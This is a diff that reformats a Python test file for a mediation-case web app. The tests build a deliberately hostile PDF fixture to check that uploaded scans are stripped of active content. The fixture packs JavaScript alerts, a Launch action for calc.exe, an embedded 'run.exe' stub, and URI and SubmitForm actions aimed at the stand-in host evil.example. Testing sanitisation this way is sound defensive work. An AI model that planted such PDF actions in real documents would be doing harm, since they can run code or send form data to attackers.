@@ -37,8 +37,9 @@ def hostile_pdf() -> bytes:
     pdf = pikepdf.new()
     pdf.add_blank_page(page_size=(595, 842))
     page = pdf.pages[0]
-    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
-                              BaseFont=pikepdf.Name.Helvetica)  # fmt: skip
+    font = pikepdf.Dictionary(
+        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
+    )
     page.obj["/Resources"] = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
     page.obj["/Contents"] = pdf.make_stream(b"BT /F1 24 Tf 72 720 Td (Signed by both) Tj ET")
 
@@ -46,31 +47,40 @@ def hostile_pdf() -> bytes:
         return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name(kind), **fields))
 
     def annotation(subtype: str, **fields):
-        return pdf.make_indirect(pikepdf.Dictionary(
-            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[72, 600, 300, 640],
-            **fields,
-        ))  # fmt: skip
+        return pdf.make_indirect(
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot,
+                Subtype=pikepdf.Name(subtype),
+                Rect=[72, 600, 300, 640],
+                **fields,
+            )
+        )
 
     script = action("/JavaScript", JS=pikepdf.String("app.alert('pwned')"))
     embedded = pdf.make_stream(b"MZ payload")
-    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"),
-                              EF=pikepdf.Dictionary(F=embedded))  # fmt: skip
+    spec = pikepdf.Dictionary(
+        Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"), EF=pikepdf.Dictionary(F=embedded)
+    )
     field = annotation(
-        "/Widget", FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
+        "/Widget",
+        FT=pikepdf.Name.Tx,
+        T=pikepdf.String("name"),
         AA=pikepdf.Dictionary(K=action("/JavaScript", JS=pikepdf.String("1"))),
         A=action("/SubmitForm", F=pikepdf.String("http://evil.example/")),
-    )  # fmt: skip
-    page.obj["/Annots"] = pikepdf.Array([
-        annotation("/Link", A=script),
-        annotation("/Link", A=action("/Launch", F=pikepdf.String("calc.exe"))),
-        annotation("/Link", A=action("/URI", URI=pikepdf.String("http://evil.example/"))),
-        annotation("/Link", A=action("/GoToR", F=pikepdf.String("other.pdf"), D=[0])),
-        annotation("/Link", A=action("/GoToE", T=pikepdf.Dictionary(R=pikepdf.Name.C))),
-        annotation("/Link", A=action("/ImportData", F=pikepdf.String("data.fdf"))),
-        annotation("/RichMedia"),
-        annotation("/FileAttachment", FS=spec),
-        field,
-    ])  # fmt: skip
+    )
+    page.obj["/Annots"] = pikepdf.Array(
+        [
+            annotation("/Link", A=script),
+            annotation("/Link", A=action("/Launch", F=pikepdf.String("calc.exe"))),
+            annotation("/Link", A=action("/URI", URI=pikepdf.String("http://evil.example/"))),
+            annotation("/Link", A=action("/GoToR", F=pikepdf.String("other.pdf"), D=[0])),
+            annotation("/Link", A=action("/GoToE", T=pikepdf.Dictionary(R=pikepdf.Name.C))),
+            annotation("/Link", A=action("/ImportData", F=pikepdf.String("data.fdf"))),
+            annotation("/RichMedia"),
+            annotation("/FileAttachment", FS=spec),
+            field,
+        ]
+    )
     page.obj["/AA"] = pikepdf.Dictionary(O=action("/JavaScript", JS=pikepdf.String("2")))
     root = pdf.Root
     root["/OpenAction"] = action("/JavaScript", JS=pikepdf.String("app.alert(1)"), Next=script)
@@ -120,8 +130,11 @@ def test_javascript_in_a_signed_scan_reaches_neither_the_store_nor_the_case_file
     case = working_case(world)
     c = login("mediator1")
     upload = {"checked": "y", "file": (io.BytesIO(hostile_pdf()), "协议签字.pdf")}
-    response = c.post(f"/cases/{case.id}/agreements/{case.agreement.id}/signed", data=upload,
-                      content_type="multipart/form-data")  # fmt: skip
+    response = c.post(
+        f"/cases/{case.id}/agreements/{case.agreement.id}/signed",
+        data=upload,
+        content_type="multipart/form-data",
+    )
     assert response.status_code == 302
     scan = db.session.scalars(db.select(Attachment)).one()
     stored = attachment_path(scan).read_bytes()
@@ -141,8 +154,12 @@ def test_javascript_in_a_signed_scan_reaches_neither_the_store_nor_the_case_file
 def test_a_scan_stored_before_cleaning_is_bound_without_its_links(world):
     """Files kept before uploads were cleaned: the 卷宗 binds their pages' drawing only."""
     case = working_case(world)
-    scan = store_attachment(case, world["mediator1"], FileStorage(io.BytesIO(hostile_pdf()),
-                            filename="旧扫描件.pdf"), AttachmentKind.SCAN)  # fmt: skip
+    scan = store_attachment(
+        case,
+        world["mediator1"],
+        FileStorage(io.BytesIO(hostile_pdf()), filename="旧扫描件.pdf"),
+        AttachmentKind.SCAN,
+    )
     attachment_path(scan).write_bytes(hostile_pdf())  # as an old upload was kept
     case_file = documents.generate_document(case, world["auditor1"], DocumentKind.CASE_FILE)
     assert {"/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch"} & names_in(
@@ -257,7 +274,6 @@ def test_the_verify_page_reads_an_upload_and_keeps_nothing(world, client):
     )
     before = sorted(p for p in upload_folder().rglob("*") if p.is_file())
     data = {"file": (io.BytesIO(hostile_pdf()), "协议.pdf"), "csrf_token": client.csrf_token()}
-    response = client.post(f"/verify/{printed.code}", data=data,
-                           content_type="multipart/form-data")  # fmt: skip
+    response = client.post(f"/verify/{printed.code}", data=data, content_type="multipart/form-data")
     assert response.status_code == 200 and "不相符" in response.get_data(as_text=True)
     assert sorted(p for p in upload_folder().rglob("*") if p.is_file()) == before
